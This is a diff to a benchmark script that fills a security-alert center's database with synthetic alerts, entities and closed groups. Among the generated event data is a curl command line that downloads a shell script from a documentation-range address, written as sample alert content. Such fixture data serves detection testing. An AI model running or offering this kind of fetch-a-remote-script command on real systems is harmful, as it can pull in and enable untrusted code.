@@ -1,14 +1,14 @@
-"""Fill a center's state database with alerts: ``python -m bench.console_data DATA [--alerts N] [--groups N]``.
+"""Fill a center's state database: ``python -m bench.console_data DATA [--alerts N] [--groups N]``.
 
-DATA is the data folder of a center that was made (``liuhe center init`` or ``run --init``) and may run. Alerts
-go through the store's own commit, built by ``claim`` from events of plausible shape, for the rules the product
+DATA is the data folder of a center that was made (``liuhe center run --init``), or any folder. Alerts go
+through the store's own commit, built by ``claim`` from events of plausible shape, for the rules the product
 ships, over units, hosts, addresses and people; systems and assets are registered so that rows have badges.
 Part of the groups is then taken and closed by acts, as a shift would have done. Prints one JSON line.
 """
 
 import argparse
 import json
-import random
+import random  # noqa: TID251 - seeded, so that every fill is alike
 import time
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
@@ -100,7 +100,8 @@ def raised(said: list[Claim], units: list[str], count: int, groups: int, end: da
             f"op{picked.randrange(300)}",
             f"10.{picked.randrange(200)}.0.{picked.randrange(1, 250)}",
         )
-        entity = f"host:{host}-{group}" if kind < 0.5 else f"source:{source}" if kind < 0.7 else ""
+        entity = f"host:{host}-{group}" if kind < 0.5 else f"user:{user}-{group}@{host}"
+        entity = f"source:{source}" if kind > 0.8 else entity
         line = f"/usr/bin/curl -s http://198.51.100.{group % 250}/{group}.sh"
         seen = Observation(
             time=end - SPAN + step * (number + 1),
